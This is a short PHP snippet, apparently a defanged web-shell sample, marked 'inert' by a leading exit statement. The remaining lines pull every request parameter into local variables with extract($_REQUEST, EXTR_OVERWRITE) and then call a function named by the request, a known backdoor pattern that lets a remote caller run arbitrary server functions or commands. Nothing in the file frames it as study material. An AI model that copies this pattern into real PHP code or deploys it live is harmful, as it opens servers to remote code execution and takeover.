<?php exit; /* inert */ 
$handler = 'strtolower'; $value = '';
extract($_REQUEST, EXTR_OVERWRITE);
echo $handler($value);
